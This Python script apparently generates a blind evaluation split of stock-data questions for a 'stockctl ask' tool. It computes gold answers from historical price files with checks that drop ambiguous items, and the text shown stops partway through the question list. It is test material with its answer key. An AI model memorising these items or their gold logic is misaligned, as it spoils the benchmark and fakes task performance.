#!/usr/bin/env python3
"""blind-10: a blind split of 240 questions for `stockctl ask`.

Every question is written by hand below; every gold answer is computed here from the raw files
(`stocks/*.us.txt` and `intraday/*.csv`) with code of its own. Nothing of the engine was read.

Data: $ASK_EVAL_DATA if set, else <repo>/../shared/data, where <repo> is three levels above this file.
Output: questions.jsonl beside this file. Deterministic. Any failed check stops the run before writing.
"""
import csv
import datetime as dt
import hashlib
import json
import math
import os
import re
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(os.path.dirname(REPO), "shared", "data")
OUT = os.path.join(HERE, "questions.jsonl")


class CheckFailed(Exception):
    pass


def check(cond, msg):
    if not cond:
        raise CheckFailed(msg)


# ----------------------------------------------------------------------------------------------
# Loading
# ----------------------------------------------------------------------------------------------
O, H, L, C, V = 1, 2, 3, 4, 5
FIELD = {"open": O, "high": H, "low": L, "close": C, "volume": V}


def us_eastern_offset_hours(utc):
    """Hours to subtract from UTC for New York time: US DST from the second Sunday of March 02:00 local
    (07:00 UTC) to the first Sunday of November 02:00 local (06:00 UTC)."""
    y = utc.year
    m1 = dt.date(y, 3, 1)
    second_sun_mar = m1 + dt.timedelta(days=(6 - m1.weekday()) % 7 + 7)
    n1 = dt.date(y, 11, 1)
    first_sun_nov = n1 + dt.timedelta(days=(6 - n1.weekday()) % 7)
    start = dt.datetime(second_sun_mar.year, second_sun_mar.month, second_sun_mar.day, 7)
    end = dt.datetime(first_sun_nov.year, first_sun_nov.month, first_sun_nov.day, 6)
    return 4 if start <= utc < end else 5


DAILY = {}   # symbol -> [(date, open, high, low, close, volume)] ascending
MINUTES = {}  # ETF symbol -> [("YYYY-MM-DD HH:MM", open, high, low, close, volume)] ascending, New York time
ETFS = []
DAILY_TICKERS = []

for fn in sorted(os.listdir(os.path.join(DATA, "stocks"))):
    if not fn.endswith(".us.txt"):
        continue
    sym = fn[: -len(".us.txt")].upper()
    rows = []
    with open(os.path.join(DATA, "stocks", fn), newline="") as f:
        rd = csv.reader(f)
        head = next(rd)
        check(head[:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], "header " + fn)
        for x in rd:
            if not x:
                continue
            rows.append((x[0], float(x[1]), float(x[2]), float(x[3]), float(x[4]), float(x[5])))
    check([r[0] for r in rows] == sorted(set(r[0] for r in rows)), "dates sorted/unique " + fn)
    DAILY[sym] = rows
    DAILY_TICKERS.append(sym)

for fn in sorted(os.listdir(os.path.join(DATA, "intraday"))):
    if not fn.endswith(".csv"):
        continue
    sym = fn.split("_")[0].upper()
    mins = []
    with open(os.path.join(DATA, "intraday", fn), newline="") as f:
        rd = csv.reader(f)
        head = next(rd)
        check(head == ["timestamp", "open", "high", "low", "close", "volume"], "header " + fn)
        for x in rd:
            if not x:
                continue
            t = dt.datetime.strptime(x[0], "%Y-%m-%d %H:%M:%S")
            t = t - dt.timedelta(hours=us_eastern_offset_hours(t))
            mins.append((t.strftime("%Y-%m-%d %H:%M"), float(x[1]), float(x[2]), float(x[3]), float(x[4]),
                         float(x[5])))
    check([m[0] for m in mins] == sorted(set(m[0] for m in mins)), "minutes sorted/unique " + fn)
    MINUTES[sym] = mins
    byday = {}
    for m in mins:
        byday.setdefault(m[0][:10], []).append(m)
    DAILY[sym] = [(d, ms[0][O], max(m[H] for m in ms), min(m[L] for m in ms), ms[-1][C], sum(m[V] for m in ms))
                  for d, ms in sorted(byday.items())]
    ETFS.append(sym)

check(sorted(DAILY_TICKERS) == ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX",
                                "NVDA", "TSLA"], "daily tickers")
check(sorted(ETFS) == ["DBB", "FXY", "INDA"], "ETFs")
ALL = sorted(DAILY)
IDX = {s: {r[0]: i for i, r in enumerate(rows)} for s, rows in DAILY.items()}
TODAY = max(r[0] for s in ETFS for r in DAILY[s])
check(TODAY == "2025-07-08", "today")
check(max(r[0] for s in DAILY_TICKERS for r in DAILY[s]) == "2017-11-10", "daily end")
check(not (set(r[0] for s in ETFS for r in DAILY[s]) & set(r[0] for s in DAILY_TICKERS for r in DAILY[s])),
      "daily and ETF dates overlap")


# ----------------------------------------------------------------------------------------------
# Tolerance (FORMAT.md) and output numbers
# ----------------------------------------------------------------------------------------------
def tol(g):
    a = abs(g)
    return max(0.001 * a, 0.01 if a >= 1 else 0.0001)


def near(x, g):
    return abs(x - g) <= tol(g)


def distinct(a, b):
    """Two values no reasonable rounding can confuse: neither matches the other, as fractions or percents."""
    return not near(a, b) and not near(b, a) and not near(a * 100, b * 100) and not near(b * 100, a * 100)


def num(x):
    if isinstance(x, str):
        return x
    check(math.isfinite(x), "non-finite number")
    r = round(x, 8)
    if r == int(r) and abs(r) < 1e15:
        return int(r)
    return r


# ----------------------------------------------------------------------------------------------
# Calendar
# ----------------------------------------------------------------------------------------------
def D(s):
    return dt.date.fromisoformat(s)


def iso(d):
    return d.isoformat()


def month(y, m):
    a = dt.date(y, m, 1)
    b = dt.date(y + (m == 12), m % 12 + 1, 1) - dt.timedelta(days=1)
    return iso(a), iso(b)


def quarter(y, q):
    return month(y, 3 * q - 2)[0], month(y, 3 * q)[1]


def half(y, h):
    return (f"{y}-01-01", f"{y}-06-30") if h == 1 else (f"{y}-07-01", f"{y}-12-31")


def year(y):
    return f"{y}-01-01", f"{y}-12-31"


def week_of(d):
    x = D(d)
    mon = x - dt.timedelta(days=x.weekday())
    return iso(mon), iso(mon + dt.timedelta(days=4))


# ----------------------------------------------------------------------------------------------
# Daily helpers
# ----------------------------------------------------------------------------------------------
def bar(s, d):
    check(d in IDX[s], f"{s} has no session on {d}")
    return DAILY[s][IDX[s][d]]


def sessions(s, a, b):
    rows = [r for r in DAILY[s] if a <= r[0] <= b]
    check(len(rows) > 0, f"{s} has no sessions in {a}..{b}")
    return rows


def session_on_or_before(s, d):
    rows = [r for r in DAILY[s] if r[0] <= d]
    check(rows, f"{s} nothing on or before {d}")
    check((D(d) - D(rows[-1][0])).days <= 5, f"{s} session before {d} too far")
    return rows[-1]


def prev_bar(s, d):
    i = IDX[s][d]
    check(i > 0, f"{s} has no session before {d}")
    p = DAILY[s][i - 1]
    check((D(d) - D(p[0])).days <= 7, f"{s}: previous session of {d} is {p[0]} (a gap in the data)")
    return p


def daily_return(s, d):
    return bar(s, d)[C] / prev_bar(s, d)[C] - 1


def daily_gap(s, d):
    return bar(s, d)[O] / prev_bar(s, d)[C] - 1


def rng(r):
    return r[H] - r[L]


def returns(s, a, b, include_first=True):
    """[(date, return)] for sessions in a..b. include_first: the first session's return, from the session
    before the window, counts (the convention); False drops it (the other reading, used by the checks)."""
    out = []
    for r in sessions(s, a, b):
        i = IDX[s][r[0]]
        if i == 0:
            continue
        p = DAILY[s][i - 1]
        if p[0] < a and not include_first:
            continue
        check((D(r[0]) - D(p[0])).days <= 7, f"{s}: return on {r[0]} spans a gap in the data")
        out.append((r[0], r[C] / p[C] - 1))
    return out


def mean(xs):
    xs = list(xs)
    check(xs, "mean of nothing")
    return sum(xs) / len(xs)


def stdev(xs):
    xs = list(xs)
    check(len(xs) > 2, "stdev needs data")
    m = sum(xs) / len(xs)
    return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))


def pearson(xs, ys):
    check(len(xs) == len(ys) and len(xs) > 2, "pearson needs data")
    mx, my = mean(xs), mean(ys)
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    syy = sum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def moving_average(s, d, n):
    i = IDX[s][d]
    if i + 1 < n:
        return None
    return sum(r[C] for r in DAILY[s][i - n + 1: i + 1]) / n


def line(s, d, n):
    """n == 1 is the close itself."""
    return bar(s, d)[C] if n == 1 else moving_average(s, d, n)


def crossings(s, fast, slow, direction, a, b):
    out = []
    for r in sessions(s, a, b):
        i = IDX[s][r[0]]
        if i == 0:
            continue
        p = DAILY[s][i - 1][0]
        f0, s0, f1, s1 = line(s, p, fast), line(s, p, slow), line(s, r[0], fast), line(s, r[0], slow)
        if None in (f0, s0, f1, s1):
            continue
        check(f1 != s1 and f0 != s0, f"{s}: tie between lines near {r[0]}")
        if direction == "above" and f0 < s0 and f1 > s1:
            out.append(r[0])
        if direction == "below" and f0 > s0 and f1 < s1:
            out.append(r[0])
    return out


def window_52(s, d):
    """Both readings of '365 days up to and including the date' must agree."""
    res = []
    for days in (365, 364):
        a = iso(D(d) - dt.timedelta(days=days))
        rows = sessions(s, a, d)
        res.append((min(r[L] for r in rows), max(r[H] for r in rows)))
    check(res[0] == res[1], f"{s} 52-week window edge matters on {d}")
    return res[0]


# ----------------------------------------------------------------------------------------------
# Gold builders: each returns a gold dict
# ----------------------------------------------------------------------------------------------
def G(rows, match, exact_rows=False):
    g = {"rows": [[num(c) for c in r] for r in rows], "match": match}
    if exact_rows:
        g["exact_rows"] = True
    return g


def g_latest(s, n, fields):
    rows = DAILY[s][-n:]
    check(len(rows) == n, "latest n")
    return G([[r[0]] + [r[FIELD[f]] for f in fields] for r in rows], "set", True)


def g_rows(s, a, b, fields, expect=None):
    rows = sessions(s, a, b)
    if expect is not None:
        check(len(rows) == expect, f"{s} {a}..{b}: {len(rows)} sessions, expected {expect}")
    return G([[r[0]] + [r[FIELD[f]] for f in fields] for r in rows], "set", True)


def g_day(s, d, field):
    r = bar(s, d)
    v = rng(r) if field == "range" else r[FIELD[field]]
    return G([[d, v]], "first")


def agg_value(s, a, b, field, how, inclusive_check=True):
    def calc(a2, b2):
        rows = sessions(s, a2, b2)
        vals = [rng(r) if field == "range" else r[FIELD[field]] for r in rows]
        if how == "mean":
            return mean(vals)
        if how == "sum":
            return sum(vals)
        if how == "max":
            return max(vals)
        if how == "min":
            return min(vals)
        if how == "median":
            check(len(vals) % 2 == 1, "median of an even count")
            return sorted(vals)[len(vals) // 2]
        raise ValueError(how)
    v = calc(a, b)
    if inclusive_check and how in ("max", "min"):
        # an extreme must not sit on an edge, so "between" read exclusively gives the same answer
        ds = [r[0] for r in sessions(s, a, b)]
        v2 = calc(iso(D(ds[0]) + dt.timedelta(days=1)), iso(D(ds[-1]) - dt.timedelta(days=1)))
        check(v2 == v, f"{s} {how} {field} {a}..{b} sits on an edge")
    return v


def g_agg(s, a, b, field, how, **kw):
    return G([[agg_value(s, a, b, field, how, **kw)]], "first")


def extreme(s, a, b, key, pick):
    """key(row) -> value; pick 'max' or 'min'. A unique winner beyond rounding."""
    rows = [(r[0], key(r)) for r in sessions(s, a, b)]
    rows.sort(key=lambda t: t[1], reverse=(pick == "max"))
    check(len(rows) >= 2 and distinct(rows[0][1], rows[1][1]), f"{s} {a}..{b} extreme not unique: {rows[:2]}")
    return rows[0]


def g_extreme(s, a, b, field, pick):
    key = (lambda r: rng(r)) if field == "range" else (lambda r: r[FIELD[field]])
    d, v = extreme(s, a, b, key, pick)
    ds = [r[0] for r in sessions(s, a, b)]
    check(d not in (ds[0], ds[-1]), f"{s} extreme on the window edge {d}")
    return G([[d, v]], "first")


def g_52(s, d, which):
    lo, hi = window_52(s, d)
    if which == "high":
        return G([[hi]], "first")
    if which == "low":
        return G([[lo]], "first")
    return G([[lo, hi]], "first")


def change(s, a, b, trading_ends=True):
    if trading_ends:
        bar(s, a), bar(s, b)
    return session_on_or_before(s, b)[C] / session_on_or_before(s, a)[C] - 1


def g_change(s, a, b, trading_ends=True):
    return G([[change(s, a, b, trading_ends)]], "first")


def g_return(s, d):
    return G([[d, daily_return(s, d)]], "first")


def g_gap(s, d):
    return G([[d, daily_gap(s, d)]], "first")


def both_ways(fn):
    """fn(include_first) -> value; the two readings of a windowed return series must agree."""
    a, b = fn(True), fn(False)
    check(near(b, a), f"first-return reading matters: {a} vs {b}")
    return a


def g_bigmove(s, a, b, what):
    def pick(incl):
        if what in ("gap", "gap-up", "gap-down"):
            rs = []
            for r in sessions(s, a, b):
                if not incl and DAILY[s][IDX[s][r[0]] - 1][0] < a:
                    continue
                rs.append((r[0], daily_gap(s, r[0])))
        else:
            rs = returns(s, a, b, incl)
        if what in ("up", "gap-up"):
            rs.sort(key=lambda t: -t[1])
        elif what in ("down", "gap", "gap-down"):
            rs.sort(key=lambda t: t[1])
        elif what == "abs":
            rs.sort(key=lambda t: -abs(t[1]))
        check(distinct(abs(rs[0][1]), abs(rs[1][1])), f"{s} big move not unique {rs[:2]}")
        return rs[0]
    w1, w2 = pick(True), pick(False)
    check(w1 == w2, f"{s} biggest move depends on the first session's return")
    if what == "abs":
        check(w1[1] > 0, "an either-way winner should be a gain, so its sign cannot be misread")
    return G([[w1[0], w1[1]]], "first")


def universe_on(d):
    return [s for s in ALL if d in IDX[s]]


def ranked(pairs, n, descending):
    pairs = sorted(pairs, key=lambda t: t[1], reverse=descending)
    check(len(pairs) >= n, "not enough symbols")
    upto = min(n + 1, len(pairs))
    for i in range(upto - 1):
        check(distinct(pairs[i][1], pairs[i + 1][1]), f"ranking tie near {pairs[i]} {pairs[i + 1]}")
    return pairs[:n]


def day_metric(s, d, metric):
    r = bar(s, d)
    if metric == "return":
        return daily_return(s, d)
    if metric == "gap":
        return daily_gap(s, d)
    if metric == "range":
        return rng(r)
    return r[FIELD[metric]]


def g_rank_day(d, metric, n, descending, universe=None, singular=False):
    uni = universe or universe_on(d)
    check(all(d in IDX[s] for s in uni), "universe member without a bar")
    top = ranked([(s, day_metric(s, d, metric)) for s in uni], n, descending)
    if singular:
        return G([list(top[0])], "first")
    return G([list(t) for t in top], "ordered", True)


def universe_window(a, b, pool=None):
    return [s for s in (pool or ALL) if a in IDX[s] and b in IDX[s]]


def g_rank_change(a, b, n, descending, pool=None, singular=False, expect_universe=None):
    uni = universe_window(a, b, pool)
    if expect_universe is not None:
        check(sorted(uni) == sorted(expect_universe), f"universe {uni}")
    top = ranked([(s, change(s, a, b)) for s in uni], n, descending)
    if singular:
        return G([list(top[0])], "first")
    return G([list(t) for t in top], "ordered", True)


def g_compare(pairs, mode, higher_wins=True):
    """mode 'which' -> ordered, winner first; 'vs' -> set."""
    check(len(pairs) == 2 and distinct(pairs[0][1], pairs[1][1]), f"comparison too close {pairs}")
    if mode == "which":
        pairs = sorted(pairs, key=lambda t: t[1], reverse=higher_wins)
        return G([list(p) for p in pairs], "ordered")
    return G([list(p) for p in pairs], "set")


def period_value(s, a, b, what):
    rows = sessions(s, a, b)
    if what == "last_close":
        return rows[-1][C]
    if what == "mean_close":
        return mean(r[C] for r in rows)
    if what == "mean_volume":
        return mean(r[V] for r in rows)
    if what == "sum_volume":
        return sum(r[V] for r in rows)
    if what == "max_high":
        return max(r[H] for r in rows)
    if what == "min_low":
        return min(r[L] for r in rows)
    raise ValueError(what)


def g_grouped(s, periods, what):
    return G([[period_value(s, a, b, what)] for a, b in periods], "ordered", True)


def g_pop(s, later, earlier, what):
    x = period_value(s, later[0], later[1], what)
    y = period_value(s, earlier[0], earlier[1], what)
    return G([[x, y, x / y - 1]], "first")


def g_ma(s, d, n):
    v = moving_average(s, d, n)
    check(v is not None, "MA undefined")
    return G([[d, v]], "first")


def g_cross(s, fast, slow, direction, a, b, pick):
    """pick: 'only' (exactly one in a..b), 'first', 'last'."""
    xs = crossings(s, fast, slow, direction, a, b)
    check(xs, f"{s} no crossing {a}..{b}")
    if pick == "only":
        check(len(xs) == 1, f"{s} crossings {xs}")
    d = xs[0] if pick in ("only", "first") else xs[-1]
    check(d not in (a, b), "crossing on the boundary date")
    return G([[d]], "first")


def count_checked(vals, pred, threshold):
    for v in vals:
        check(not near(v, threshold) or threshold == 0 and v != 0, f"value {v} too near threshold {threshold}")
    return sum(1 for v in vals if pred(v))


def g_count_days(s, a, b, metric, op, thr):
    def cnt(incl):
        if metric == "return":
            vals = [v for _, v in returns(s, a, b, incl)]
        elif metric == "absreturn":
            vals = [abs(v) for _, v in returns(s, a, b, incl)]
        elif metric == "gap":
            vals = [daily_gap(s, r[0]) for r in sessions(s, a, b)
                    if incl or DAILY[s][IDX[s][r[0]] - 1][0] >= a]
        elif metric == "range":
            vals = [rng(r) for r in sessions(s, a, b)]
        else:
            vals = [r[FIELD[metric]] for r in sessions(s, a, b)]
        pred = (lambda v: v > thr) if op == ">" else (lambda v: v < thr)
        return count_checked(vals, pred, thr)
    n = both_ways(cnt) if metric in ("return", "absreturn", "gap") else cnt(True)
    if metric in ("return", "absreturn", "gap"):
        check(cnt(True) == cnt(False), "count depends on first return")
    return G([[n]], "first")


def g_count_stocks(d, fn, op, thr, universe=None, expect_n=None):
    uni = universe or universe_on(d)
    if expect_n is not None:
        check(len(uni) == expect_n, f"universe on {d} is {uni}")
    vals = [fn(s) for s in uni]
    check(all(v is not None for v in vals), "undefined value in count")
    pred = (lambda v: v > thr) if op == ">" else (lambda v: v < thr)
    return G([[count_checked(vals, pred, thr)]], "first")


def g_vol(s, a, b):
    return G([[both_ways(lambda incl: stdev(v for _, v in returns(s, a, b, incl)))]], "first")


def g_corr(s1, s2, a, b):
    def calc(incl):
        r1 = dict(returns(s1, a, b, incl))
        r2 = dict(returns(s2, a, b, incl))
        common = sorted(set(r1) & set(r2))
        check(len(common) > 20, "few common dates")
        return pearson([r1[d] for d in common], [r2[d] for d in common])
    return G([[both_ways(calc)]], "first")


def streaks(rs, up):
    out, cur = [], []
    for d, v in rs:
        if (v > 0) if up else (v < 0):
            cur.append(d)
        else:
            if cur:
                out.append(cur)
            cur = []
    if cur:
        out.append(cur)
    return out


def g_streak(s, a, b, up, allow_end=False):
    res = []
    for incl in (True, False):
        rs = returns(s, a, b, incl)
        st = sorted(streaks(rs, up), key=len, reverse=True)
        check(len(st) >= 2 and len(st[0]) > len(st[1]), f"{s} longest streak not unique")
        res.append(st[0])
    check(res[0] == res[1], "streak depends on the first return")
    best = res[0]
    ds = [r[0] for r in sessions(s, a, b)]
    check(best[0] != ds[0], "streak starts on the window's first session")
    if not allow_end:
        check(best[-1] != ds[-1], "streak runs to the window's last session")
    return G([[len(best), best[0], best[-1]]], "first")


def g_current_streak(s, up):
    rs = returns(s, DAILY[s][-40][0], DAILY[s][-1][0])
    cur = []
    for d, v in reversed(rs):
        if (v > 0) if up else (v < 0):
            cur.insert(0, d)
        else:
            break
    check(len(cur) >= 2, "current streak too short")
    return G([[len(cur), cur[0], cur[-1]]], "first")


def minutes(s, a, b):
    """Bars with stamp in [a, b] (strings 'YYYY-MM-DD HH:MM'), inclusive."""
    return [m for m in MINUTES[s] if a <= m[0] <= b]


def vwap(ms):
    check(ms, "VWAP of no minutes")
    return sum(m[C] * m[V] for m in ms) / sum(m[V] for m in ms)


def g_day_vwap(s, d):
    full = vwap(minutes(s, d + " 00:00", d + " 23:59"))
    reg = vwap(minutes(s, d + " 09:30", d + " 15:59"))
    check(abs(full / reg - 1) <= 0.001, f"{s} {d}: day VWAP {full} vs regular session {reg}")
    return G([[full]], "first")


def g_window_vwap(s, d, a, b, check_exclusive_end=False):
    v = vwap(minutes(s, f"{d} {a}", f"{d} {b}"))
    if check_exclusive_end:
        hh, mm = map(int, b.split(":"))
        b2 = (dt.datetime(2000, 1, 1, hh, mm) - dt.timedelta(minutes=1)).strftime("%H:%M")
        v2 = vwap(minutes(s, f"{d} {a}", f"{d} {b2}"))
        check(near(v2, v), f"{s} VWAP edge matters {v} {v2}")
    return G([[v]], "first")


def g_minute_rows(s, d, a, b, fields, check_edges=False, expect_min=2):
    ms = minutes(s, f"{d} {a}", f"{d} {b}")
    check(len(ms) >= expect_min, f"{s} {d} {a}-{b}: {len(ms)} bars")
    if check_edges:
        check(ms[0][0] != f"{d} {a}" and ms[-1][0] != f"{d} {b}", "a bar on the edge of 'between'")
    return G([[m[0]] + [m[FIELD[f]] for f in fields] for m in ms], "set", True)


def g_candle(s, a, b, expect=None):
    rows = sessions(s, a, b)
    if expect is not None:
        check(len(rows) == expect, f"{s} candle {a}..{b}: {len(rows)} sessions")
    return G([[rows[0][O], max(r[H] for r in rows), min(r[L] for r in rows), rows[-1][C], sum(r[V] for r in rows)]],
             "first")


def g_dist_high(s, d):
    r = bar(s, d)
    peak = max(x[C] for x in DAILY[s][: IDX[s][d] + 1])
    v = r[C] / peak - 1
    check(v < 0, "at the high")
    return G([[d, v]], "first")


# ----------------------------------------------------------------------------------------------
# Questions
# ----------------------------------------------------------------------------------------------
QUESTIONS = []
FAILURES = []


def collecting(fn):
    """Gold builders record a failed check (so one run lists them all); main() refuses to write if any."""
    def wrapped(*a, **k):
        try:
            return fn(*a, **k)
        except CheckFailed as e:
            FAILURES.append(f"{fn.__name__}{a}: {e}")
            return None
    wrapped.__name__ = fn.__name__
    return wrapped


for _name in [n for n in list(globals()) if n.startswith("g_")]:
    globals()[_name] = collecting(globals()[_name])


def A(kind, question, gold):
    QUESTIONS.append({"kind": kind, "question": question, "answerable": True, "gold": gold})


def R(kind, question):
    QUESTIONS.append({"kind": kind, "question": question, "answerable": False, "refusal": kind})


# -- latest rows --------------------------------------------------------------------------------
A("latest-rows", "what were FXY's last 5 closes?", g_latest("FXY", 5, ["close"]))
A("latest-rows", "DBB volume for the past three sessions pls", g_latest("DBB", 3, ["volume"]))
A("latest-rows", "Show me the most recent 4 daily bars you have for INDA: open, high, low and close.",
  g_latest("INDA", 4, ["open", "high", "low", "close"]))
A("latest-rows", "Could you list the highs and lows for FXY over its three latest sessions?",
  g_latest("FXY", 3, ["high", "low"]))
A("latest-rows", "Give me the final two trading days on file for Tesla, with closing price and volume.",
  g_latest("TSLA", 2, ["close", "volume"]))
A("latest-rows", "latest 6 rows for ko (date + close)", g_latest("KO", 6, ["close"]))
A("latest-rows", "What's the most recent closing price you've got for Netflix, and what date is it from?",
  g_latest("NFLX", 1, ["close"]))
A("latest-rows", "For IBM, pull the open and the close of the last three sessions in the dataset.",
  g_latest("IBM", 3, ["open", "close"]))

# -- day value ----------------------------------------------------------------------------------
A("day-value", "What did Big Blue close at on 3/14/2011?", g_day("IBM", "2011-03-14", "close"))
A("day-value", "Intel volume on 24/06/2016?", g_day("INTC", "2016-06-24", "volume"))
A("day-value", "amazon's intraday high on March 3rd, 2015?", g_day("AMZN", "2015-03-03", "high"))
A("day-value", "how much did nvidia open at on 2016-11-11", g_day("NVDA", "2016-11-11", "open"))
A("day-value", "I'm reconciling a trade blotter: what was JPMorgan's low on Sept 29, 2008?",
  g_day("JPM", "2008-09-29", "low"))
A("day-value", "FXY close today?", g_day("FXY", TODAY, "close"))
A("day-value", "What was DBB's trading volume on 2024-08-05?", g_day("DBB", "2024-08-05", "volume"))
A("day-value", "Coca-Cola's closing price on Valentine's Day 2013", g_day("KO", "2013-02-14", "close"))

# -- date-range rows ----------------------------------------------------------------------------
A("date-range-rows", "Show AMZN's closes from 2014-10-20 through 2014-10-24.",
  g_rows("AMZN", "2014-10-20", "2014-10-24", ["close"], 5))
A("date-range-rows", "closing prices for DBB on each session this month",
  g_rows("DBB", "2025-07-01", TODAY, ["close"], 5))
A("date-range-rows", "List MSFT's open and close for every session from Dec 22 through Dec 31, 2008.",
  g_rows("MSFT", "2008-12-22", "2008-12-31", ["open", "close"], 7))
A("date-range-rows", "FXY daily volume, week of 2024-03-18", g_rows("FXY", *week_of("2024-03-18"), ["volume"], 5))
A("date-range-rows", "Give me NFLX daily highs 2/16/2016 thru 2/19/2016",
  g_rows("NFLX", "2016-02-16", "2016-02-19", ["high"], 4))
A("date-range-rows", "INDA closing prices, April 7 to April 11 2025 inclusive",
  g_rows("INDA", "2025-04-07", "2025-04-11", ["close"], 5))
A("date-range-rows", "I need Alphabet (GOOGL) close and volume for each of the first five sessions of 2011.",
  g_rows("GOOGL", "2011-01-03", "2011-01-07", ["close", "volume"], 5))
A("date-range-rows", "What did TSLA close at on each day in the week of August 7, 2017?",
  g_rows("TSLA", *week_of("2017-08-07"), ["close"], 5))

# -- window aggregate ---------------------------------------------------------------------------
A("window-aggregate", "avrage closing price of MSFT in Q1 2012?", g_agg("MSFT", *quarter(2012, 1), "close", "mean"))
A("window-aggregate", "Total DBB volume traded in May 2024", g_agg("DBB", *month(2024, 5), "volume", "sum"))
A("window-aggregate", "what was the higest intraday high KO reached between 2015-06-01 and 2015-08-31",
  g_agg("KO", "2015-06-01", "2015-08-31", "high", "max"))
A("window-aggregate", "lowest low for FXY in Q1 2024", g_agg("FXY", *quarter(2024, 1), "low", "min"))
A("window-aggregate", "mean daily voulme for AMD across calendar 2016?", g_agg("AMD", *year(2016), "volume", "mean"))
A("window-aggregate", "Apple's median closing price in October 2014", g_agg("AAPL", *month(2014, 10), "close", "median"))
A("window-aggregate", "Sum of NVIDIA's trading volume from July 5 through July 29, 2016",
  g_agg("NVDA", "2016-07-05", "2016-07-29", "volume", "sum"))
A("window-aggregate", "average INDA close so far this year", g_agg("INDA", "2025-01-01", TODAY, "close", "mean"))
A("window-aggregate", "JPM: lowest close during August 2011?", g_agg("JPM", *month(2011, 8), "close", "min"))

# -- extreme day --------------------------------------------------------------------------------
A("extreme-day", "On which day in 2014 did JPM post its highest close?", g_extreme("JPM", *year(2014), "close", "max"))
A("extreme-day", "which sesion had the heaviest volume for FXY in 2024?", g_extreme("FXY", *year(2024), "volume", "max"))
A("extreme-day", "When did Netflix hit its lowest low of 2012?", g_extreme("NFLX", *year(2012), "low", "min"))
A("extreme-day", "Day with the biggest trading range (high minus low) for GOOGL in Q4 2015",
  g_extreme("GOOGL", *quarter(2015, 4), "range", "max"))
A("extreme-day", "what day in april 2025 did INDA have its lowest close", g_extreme("INDA", *month(2025, 4), "close", "min"))
A("extreme-day", "Highest-volume day for TSLA in 2013?", g_extreme("TSLA", *year(2013), "volume", "max"))
A("extreme-day", "In the first half of 2010, on what date did Intel close at its peak?",
  g_extreme("INTC", *half(2010, 1), "close", "max"))
A("extreme-day", "DBB's quietest day by volume last month", g_extreme("DBB", *month(2025, 6), "volume", "min"))

# -- 52-week ------------------------------------------------------------------------------------
A("52-week", "52-week high for AAPL as of 2015-07-20", g_52("AAPL", "2015-07-20", "high"))
A("52-week", "What was KO's 52 week low on 9/22/2011?", g_52("KO", "2011-09-22", "low"))
A("52-week", "FXY 52-wk range as of today", g_52("FXY", TODAY, "range"))
A("52-week", "Give me Amazon's 52-week low and high as of the close on 2008-12-31.", g_52("AMZN", "2008-12-31", "range"))
A("52-week", "DBB 52-week low at 2025-04-30?", g_52("DBB", "2025-04-30", "low"))
A("52-week", "what was the 52 week high of Tesla on June 30th 2016", g_52("TSLA", "2016-06-30", "high"))
A("52-week", "As of Nov 1 2013, where was IBM's 52-week low?", g_52("IBM", "2013-11-01", "low"))
A("52-week", "NVDA's 52-week high, measured on 2017-03-14?", g_52("NVDA", "2017-03-14", "high"))

# -- change between -----------------------------------------------------------------------------
A("change-between", "How much did AAPL change from the 2016-01-04 close to the 2016-12-30 close?",
  g_change("AAPL", "2016-01-04", "2016-12-30"))
A("change-between", "% change in DBB from the close on 2024-01-02 to the close on 2024-12-31",
  g_change("DBB", "2024-01-02", "2024-12-31"))
A("change-between", "How much has FXY moved since the Jan 2 2025 close?",
  g_change("FXY", "2025-01-02", TODAY))
A("change-between", "NFLX return from the July 1, 2015 close to the Sept 30, 2015 close?",
  g_change("NFLX", "2015-07-01", "2015-09-30"))
A("change-between", "How did Facebook's share price change from its IPO-day close (2012-05-18) to the 2013-05-17 close?",
  g_change("FB", "2012-05-18", "2013-05-17"))
A("change-between", "Between Jan 1, 2009 and Dec 31, 2009, how much did AMD gain?",
  g_change("AMD", "2009-01-01", "2009-12-31", trading_ends=False))
A("change-between", "INDA from the 2025-03-03 close to the 2025-06-02 close, what was the change?",
  g_change("INDA", "2025-03-03", "2025-06-02"))
A("change-between", "What's IBM's percentage change close-to-close, 8/13/2012 -> 8/13/2013?",
  g_change("IBM", "2012-08-13", "2013-08-13"))

# -- daily return or gap ------------------------------------------------------------------------
A("daily-return-or-gap", "What was MSFT's daily return on 2015-04-24?", g_return("MSFT", "2015-04-24"))
A("daily-return-or-gap", "How big was the opening gap in NFLX on 10/16/2014?", g_gap("NFLX", "2014-10-16"))
A("daily-return-or-gap", "the base metals fund DBB jumped on 2024-09-24 - what was the daily % change?", g_return("DBB", "2024-09-24"))
A("daily-return-or-gap", "FXY gap at the open today?", g_gap("FXY", TODAY))
A("daily-return-or-gap", "How much did AMZN gap up at the open on 2017-10-27?", g_gap("AMZN", "2017-10-27"))
A("daily-return-or-gap", "what was tesla's return on may 4 2017", g_return("TSLA", "2017-05-04"))
A("daily-return-or-gap", "JPM one-day return, 2016-11-09", g_return("JPM", "2016-11-09"))
A("daily-return-or-gap", "By how much did INDA rise or fall on 12 May 2025?", g_return("INDA", "2025-05-12"))
A("daily-return-or-gap", "KO's opening gap vs the prior close on Feb 10, 2016", g_gap("KO", "2016-02-10"))

# -- biggest move day ---------------------------------------------------------------------------
A("biggest-move-day", "Biggest one-day drop for NVDA in 2015?", g_bigmove("NVDA", *year(2015), "down"))
A("biggest-move-day", "Which day in 2024 saw FXY's largest daily gain?", g_bigmove("FXY", *year(2024), "up"))
A("biggest-move-day", "What was AMD's largest single-day move in either direction during 2011?",
  g_bigmove("AMD", *year(2011), "abs"))
A("biggest-move-day", "DBB worst day last quarter", g_bigmove("DBB", *quarter(2025, 2), "down"))
A("biggest-move-day", "INTC's best day of 2009", g_bigmove("INTC", *year(2009), "up"))
A("biggest-move-day", "Largest gap down at the open for FB over 2014-2015?",
  g_bigmove("FB", "2014-01-01", "2015-12-31", "gap-down"))
A("biggest-move-day", "When did GOOGL have its biggest daily percentage gain from 2010 through 2012?",
  g_bigmove("GOOGL", "2010-01-01", "2012-12-31", "up"))
